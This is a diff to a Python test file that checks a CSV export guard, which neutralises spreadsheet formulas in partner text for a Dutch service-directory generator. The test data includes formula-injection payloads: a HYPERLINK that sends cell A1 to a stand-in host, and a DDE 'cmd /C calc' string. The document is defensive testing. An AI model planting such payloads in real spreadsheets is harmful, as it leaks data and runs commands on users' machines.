@@ -12,7 +12,8 @@ from hsds_schemas import errors
 
 from generator.build.render import datum
 from generator.cli import main
-from generator.export.beheer_csv import KOLOMMEN, geen_formule
+from generator.export.beheer_csv import KOLOMMEN
+from generator.export.tabular import csv_text, geen_formule
 from generator.export.hsds import SERVICE_SOORTEN
 from generator.export.plekken import plekken
 from generator.vocabulary import THEMAS, DOELGROEPEN
@@ -47,6 +48,9 @@ def test_partner_text_never_becomes_a_spreadsheet_formula(mini_kaart, tmp_path):
     [cell] = [row["naam"] for row in rows if row["id"] == "formulierenhulp"]
     assert cell.startswith("'=HYPERLINK")
     assert [geen_formule(v) for v in ("+31 6", "-1", "@a", "gewoon", "")] == ["'+31 6", "'-1", "'@a", "gewoon", ""]
+    # the open data (HSDS tables, read by programs) keeps numbers and phone numbers, and guards the rest
+    assert [geen_formule(v, getallen=True) for v in ("+31 523 800 100", "-1.5", '=HYPERLINK("x")', "@SUM(1)", "+x", "gewoon")] == \
+        ["+31 523 800 100", "-1.5", '\'=HYPERLINK("x")', "'@SUM(1)", "'+x", "gewoon"]
 
 
 def test_kaart_export_hsds_writes_a_valid_export(tmp_path, capsys):
@@ -90,3 +94,9 @@ def test_profile_page_lists_the_taxonomy_from_the_vocabulary(demo_site):
         assert all(f"<code>{code}</code>" in section for code in codes), sleutel
     for word in ("assured_date", "1SA", "interval", "valid_from", "feestdagen", "Wat we weglaten"):
         assert word in html
+
+
+def test_partner_text_in_the_hsds_tables_never_becomes_a_formula():
+    text = csv_text("service", [{"id": "x", "name": '=HYPERLINK("https://x.example/?"&A1;"Klik")', "description": "@SUM(1+1)*cmd|' /C calc'!A0"}])
+    row = text.splitlines()[1]
+    assert "'=HYPERLINK" in row and "'@SUM" in row
